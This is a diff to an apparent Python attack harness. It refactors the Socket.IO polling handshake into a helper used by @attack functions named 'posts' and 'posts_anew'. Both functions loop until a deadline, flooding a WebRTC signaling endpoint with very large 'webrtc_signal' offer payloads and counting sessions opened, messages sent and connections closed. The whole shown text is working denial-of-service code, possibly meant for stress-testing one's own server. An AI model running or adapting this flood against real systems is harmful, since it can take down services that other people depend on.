@@ -228,6 +228,13 @@ async def silent(host: str, port: int, until: float) -> dict[str, Any]:
     return {"opened": opened, "failed": failed, "left": left}
 
 
+async def _session(host: str, port: int) -> str:
+    """A socket that was made by requests; its id."""
+    sid = (await _request(host, port, "GET", "", b"")).split(b'"sid":"')[1].split(b'"')[0].decode()
+    await _request(host, port, "POST", f"&sid={sid}", b"40")
+    return sid
+
+
 @attack
 async def posts(host: str, port: int, until: float) -> dict[str, Any]:
     """Requests in the place of a WebSocket, as large as they are taken."""
@@ -235,9 +242,8 @@ async def posts(host: str, port: int, until: float) -> dict[str, Any]:
     text = "\x1e".join(['42["webrtc_signal",{"type":"offer","payload":[' + "1," * 30_000 + "1]}]"] * 16)
     while time.monotonic() < until:
         try:
-            sid = (await _request(host, port, "GET", "", b"")).split(b'"sid":"')[1].split(b'"')[0].decode()
+            sid = await _session(host, port)
             told["opened"] += 1
-            await _request(host, port, "POST", f"&sid={sid}", b"40")
             while time.monotonic() < until:
                 await _request(host, port, "POST", f"&sid={sid}", text.encode())
                 told["sent"] += 1
@@ -254,9 +260,7 @@ async def posts_anew(host: str, port: int, until: float) -> dict[str, Any]:
     text = "\x1e".join(['42["webrtc_signal",{"type":"offer","payload":[' + "1," * 4000 + "1]}]"] * 60)
     while time.monotonic() < until:
         try:
-            sid = (await _request(host, port, "GET", "", b"")).split(b'"sid":"')[1].split(b'"')[0].decode()
-            await _request(host, port, "POST", f"&sid={sid}", b"40")
-            await _request(host, port, "POST", f"&sid={sid}", text.encode())
+            await _request(host, port, "POST", f"&sid={await _session(host, port)}", text.encode())
             told["sent"] += 1
         except (ValueError, IndexError, OSError, TimeoutError, asyncio.IncompleteReadError):
             told["closed"] += 1
